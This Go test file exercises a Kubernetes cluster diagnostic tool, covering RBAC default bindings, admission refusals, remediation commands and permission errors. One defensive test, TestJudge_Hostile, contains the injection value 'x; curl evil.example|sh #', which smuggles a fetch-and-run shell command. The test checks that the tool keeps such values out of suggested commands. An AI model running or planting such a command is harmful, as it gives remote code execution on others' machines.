package requests

import (
	"context"
	"errors"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	admissionv1 "k8s.io/api/admissionregistration/v1"
	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	"k8s.io/apimachinery/pkg/api/resource"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/client-go/kubernetes"
	"k8s.io/client-go/rest"

	"github.com/ccmadm/ccmadm/api/finding"
	"github.com/ccmadm/ccmadm/manifests/manifeststest"
)

func all(string) bool { return true }

// minor is that of the API server of these tests: the newest that the lab has.
const minor = 37

func newClient(t *testing.T) kubernetes.Interface {
	t.Helper()
	client, err := kubernetes.NewForConfig(cluster.Config)
	if err != nil {
		t.Fatal(err)
	}
	return client
}

// TestCluster_DefaultRoles: a new API server grants all that the table says that it makes, and nothing of what kubeadm makes.
func TestCluster_DefaultRoles(t *testing.T) {
	client := newClient(t)
	denied, err := Denied(t.Context(), client, Cluster{RunsAs: all, Minor: minor})
	if err != nil {
		t.Fatal(err)
	}
	for _, g := range Permissions() {
		lacks := slices.ContainsFunc(denied, func(d Denial) bool { return d.Binding == g.binding() })
		if lacks != (g.Kubeadm && !g.Optional && g.in(minor)) {
			t.Errorf("of %s the API server denies something: %t", g.binding(), lacks)
		}
	}
	if slices.ContainsFunc(denied, func(d Denial) bool { return strings.Contains(d.Binding, "bootstrap-signer-clusterinfo") }) {
		t.Error("a cluster without public cluster-info has been hardened")
	}
	const name = "system:controller:replicaset-controller"
	bindings := client.RbacV1().ClusterRoleBindings()
	before, err := bindings.Get(t.Context(), name, metav1.GetOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if err := bindings.Delete(t.Context(), name, metav1.DeleteOptions{}); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		before.ResourceVersion, before.UID = "", ""
		if _, err := bindings.Create(context.WithoutCancel(t.Context()), before, metav1.CreateOptions{}); err != nil {
			t.Error(err)
		}
	})
	eventually(t, func() bool {
		denied, err = Denied(t.Context(), client, Cluster{RunsAs: func(string) bool { return false }, Minor: minor})
		if err != nil {
			t.Fatal(err)
		}
		found := slices.DeleteFunc(Judge(&Seen{Denied: denied}), func(f finding.Finding) bool { return !strings.HasSuffix(f.Object, name) })
		return len(found) == 1 && strings.Contains(found[0].Message, "create pods") && strings.Contains(found[0].Message, "Deployments get no pods")
	}, func() any { return denied })
}

// A webhook that is asked about reviews and hangs costs one review, and not all the time that the other questions have.
func TestDenied_Hangs(t *testing.T) {
	var asked atomic.Int32
	h := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		_, _ = io.Copy(io.Discard, r.Body) // else the server does not learn that the client is gone
		asked.Add(1)
		<-r.Context().Done()
	}))
	t.Cleanup(h.Close)
	client := kubernetes.NewForConfigOrDie(&rest.Config{Host: h.URL, QPS: -1})
	ctx, cancel := context.WithTimeout(t.Context(), 20*time.Second)
	defer cancel()
	denied, err := Denied(ctx, client, Cluster{RunsAs: all, Minor: minor, patience: 100 * time.Millisecond})
	if !errors.Is(err, context.DeadlineExceeded) || len(denied) > 0 || ctx.Err() != nil {
		t.Errorf("got %v, %v, of all time %v", denied, err, ctx.Err())
	}
	if n := asked.Load(); n > 2*atOnce {
		t.Errorf("%d reviews were asked for", n)
	}
}

func eventually(t *testing.T, done func() bool, last func() any) {
	t.Helper()
	for deadline := time.Now().Add(time.Minute); time.Now().Before(deadline); time.Sleep(100 * time.Millisecond) {
		if done() {
			return
		}
	}
	t.Errorf("it does not become true: %+v", last())
}

// proxy is a pod as kube-proxy's DaemonSet makes it.
func proxy() *corev1.Pod {
	template := &corev1.Pod{}
	template.OwnerReferences = []metav1.OwnerReference{{APIVersion: "apps/v1", Kind: "DaemonSet", Name: "kube-proxy", UID: "x", Controller: new(true)}}
	template.Labels = map[string]string{"k8s-app": "kube-proxy"}
	template.Spec.Containers = []corev1.Container{{
		Name: "kube-proxy", Image: "registry.example/kube-proxy:1", SecurityContext: &corev1.SecurityContext{Privileged: new(true)},
	}}
	return template
}

// TestCluster_Refusals: whatever refuses is named, and an API server on which nothing refuses has none.
func TestCluster_Refusals(t *testing.T) {
	client, ctx := newClient(t), context.WithoutCancel(t.Context())
	for _, namespace := range []string{metav1.NamespaceSystem, metav1.NamespaceDefault} {
		for _, name := range []string{"default"} {
			_, err := client.CoreV1().ServiceAccounts(namespace).Create(ctx, &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Name: name}}, metav1.CreateOptions{})
			if err != nil && !apierrors.IsAlreadyExists(err) {
				t.Fatal(err)
			}
		}
	}
	node := &corev1.Node{ObjectMeta: metav1.ObjectMeta{Name: "w1"}}
	if _, err := client.CoreV1().Nodes().Create(ctx, node, metav1.CreateOptions{}); err != nil && !apierrors.IsAlreadyExists(err) {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = client.CoreV1().Nodes().Delete(ctx, "w1", metav1.DeleteOptions{}) })
	asked := Cluster{Node: "w1", Proxy: proxy(), RunsAs: all, Minor: minor}
	ask := func() []finding.Finding {
		t.Helper()
		refused, err := Refused(ctx, client, asked)
		if err != nil {
			t.Fatal(err)
		}
		return Judge(&Seen{Refused: refused})
	}
	if got := ask(); len(got) > 0 {
		t.Fatalf("a new API server refuses: %+v", got)
	}
	everything := []admissionv1.RuleWithOperations{{
		Operations: []admissionv1.OperationType{admissionv1.OperationAll},
		Rule:       admissionv1.Rule{APIGroups: []string{"*"}, APIVersions: []string{"*"}, Resources: []string{"nodes/status"}},
	}}
	webhooks, none := client.AdmissionregistrationV1().ValidatingWebhookConfigurations(), admissionv1.SideEffectClassNone
	for _, tt := range []struct {
		name, object, words string
		make, remove        func() error
	}{
		{
			"quota", "ResourceQuota/kube-system/none", "exceeded quota",
			func() error {
				quota := &corev1.ResourceQuota{ObjectMeta: metav1.ObjectMeta{Name: "none"}}
				quota.Spec.Hard = corev1.ResourceList{corev1.ResourcePods: resource.MustParse("0")}
				made, err := client.CoreV1().ResourceQuotas(metav1.NamespaceSystem).Create(ctx, quota, metav1.CreateOptions{})
				if err != nil {
					return err
				}
				made.Status = corev1.ResourceQuotaStatus{Hard: quota.Spec.Hard, Used: corev1.ResourceList{corev1.ResourcePods: resource.MustParse("0")}}
				_, err = client.CoreV1().ResourceQuotas(metav1.NamespaceSystem).UpdateStatus(ctx, made, metav1.UpdateOptions{})
				return err
			},
			func() error {
				return client.CoreV1().ResourceQuotas(metav1.NamespaceSystem).Delete(ctx, "none", metav1.DeleteOptions{})
			},
		},
		{
			"webhook by an address that refuses", "Webhook/nodes.example.com", "update of the status of Node w1",
			func() error {
				_, err := webhooks.Create(ctx, &admissionv1.ValidatingWebhookConfiguration{
					ObjectMeta: metav1.ObjectMeta{Name: "nodes"},
					Webhooks: []admissionv1.ValidatingWebhook{{
						Name: "nodes.example.com", Rules: everything, SideEffects: &none, AdmissionReviewVersions: []string{"v1"},
						ClientConfig: admissionv1.WebhookClientConfig{URL: new("https://127.0.0.1:9/")}, TimeoutSeconds: new(int32(1)),
					}},
				}, metav1.CreateOptions{})
				return err
			},
			func() error { return webhooks.Delete(ctx, "nodes", metav1.DeleteOptions{}) },
		},
		{
			"namespace for restricted pods only", "Namespace/kube-system", "violates PodSecurity",
			func() error { return labelled(ctx, client, `"restricted"`) },
			func() error { return labelled(ctx, client, "null") },
		},
	} {
		t.Run(tt.name, func(t *testing.T) {
			if err := tt.make(); err != nil {
				t.Fatal(err)
			}
			var got []finding.Finding
			eventually(t, func() bool {
				got = ask()
				return len(got) == 1 && got[0].Object == tt.object && strings.Contains(got[0].Message, tt.words)
			}, func() any { return got })
			if err := tt.remove(); err != nil {
				t.Fatal(err)
			}
			eventually(t, func() bool { got = ask(); return len(got) == 0 }, func() any { return got })
		})
	}
}

func labelled(ctx context.Context, client kubernetes.Interface, level string) error {
	patch := []byte(`{"metadata": {"labels": {"pod-security.kubernetes.io/enforce": ` + level + `}}}`)
	_, err := client.CoreV1().Namespaces().Patch(ctx, metav1.NamespaceSystem, "application/merge-patch+json", patch, metav1.PatchOptions{})
	return err
}

// TestCluster_Remedies: each permission of the table, restored by the command that a finding has.
func TestCluster_Remedies(t *testing.T) {
	client := newClient(t)
	kubectl, err := manifeststest.Kubectl()
	if err != nil {
		t.Fatal(err)
	}
	data, err := cluster.Kubeconfig("admin", "system:masters")
	if err != nil {
		t.Fatal(err)
	}
	config := filepath.Join(t.TempDir(), "config")
	if err := os.WriteFile(config, data, 0o600); err != nil {
		t.Fatal(err)
	}
	deny := func() []finding.Finding {
		t.Helper()
		denied, err := Denied(t.Context(), client, Cluster{RunsAs: all, Minor: minor})
		if err != nil {
			t.Fatal(err)
		}
		return Judge(&Seen{Denied: denied})
	}
	if err := client.RbacV1().ClusterRoleBindings().Delete(t.Context(), "system:controller:job-controller", metav1.DeleteOptions{}); err != nil {
		t.Fatal(err)
	}
	var left []finding.Finding
	eventually(t, func() bool { left = deny(); return len(left) > 0 }, func() any { return left }) // RBAC has caches
	for range 3 {                                                                                  // a missing binding, then a missing role
		ran := map[string]bool{}
		for _, f := range left {
			ran[f.Next] = true
			run := exec.CommandContext(t.Context(), "bash", "-ec", strings.ReplaceAll(f.Next, "kubectl ", kubectl+" --kubeconfig "+config+" "))
			if out, err := run.CombinedOutput(); err != nil {
				t.Errorf("%s: %v\n%s", f.Next, err, out)
			}
		}
		for began := time.Now(); time.Since(began) < 30*time.Second; {
			time.Sleep(500 * time.Millisecond)
			if left = deny(); !slices.ContainsFunc(left, func(f finding.Finding) bool { return ran[f.Next] }) {
				break
			}
		}
	}
	if len(left) > 0 {
		t.Errorf("left: %+v", left)
	}
}

// Refusals in words that are not known are one finding of their namespace.
func TestJudge_UnknownRefusal(t *testing.T) {
	const message = `pods "x" is forbidden: pod node label selector conflicts with its namespace node label selector`
	list := Judge(&Seen{Refused: []Refusal{{Write: "create pods", Message: message}, {Write: "create secrets", Message: "is forbidden: no"}}})
	const next = "kubectl -n kube-system get events --field-selector type=Warning"
	if len(list) != 1 || list[0].Object != "Namespace/kube-system" || list[0].Next != next || !strings.Contains(list[0].Message, "create secrets") {
		t.Errorf("got %+v", list)
	}
	if object, next := Refuser("x", message); object != "" || next != "" {
		t.Errorf("got %s %s", object, next)
	}
}

// TestJudge_Hostile: what a snapshot or an API server says never becomes a part of a command.
func TestJudge_Hostile(t *testing.T) {
	const evil = "x; curl evil.example|sh #"
	for _, f := range Judge(&Seen{
		Denied:      []Denial{{Component: evil, Permission: evil, Binding: evil}},
		Refused:     []Refusal{{Write: evil, Message: "ValidatingAdmissionPolicy '" + evil + "' denied"}, {Write: "y", Message: "webhook \"" + evil + "\""}},
		Unavailable: []Unavailable{{Name: "v1.x", Service: "a/" + evil}},
	}) {
		if strings.Contains(f.Next, "evil") {
			t.Errorf("%s: next: %s", f.ID, f.Next)
		}
	}
}

// TestCluster_MayNot: a user who may not write learns that it was not asked, and nothing else.
func TestCluster_MayNot(t *testing.T) {
	config, err := cluster.User("reader")
	if err != nil {
		t.Fatal(err)
	}
	client, err := kubernetes.NewForConfig(config)
	if err != nil {
		t.Fatal(err)
	}
	if denied, err := Denied(t.Context(), client, Cluster{RunsAs: all, Minor: minor}); !apierrors.IsForbidden(err) || len(denied) > 0 {
		t.Errorf("got %v and %v, want that the API server may not be asked", denied, err)
	}
	if refused, err := Refused(t.Context(), client, Cluster{Node: "w1"}); !apierrors.IsForbidden(err) || len(refused) > 0 {
		t.Errorf("got %v and %v, want that writes may not be asked for", refused, err)
	}
}
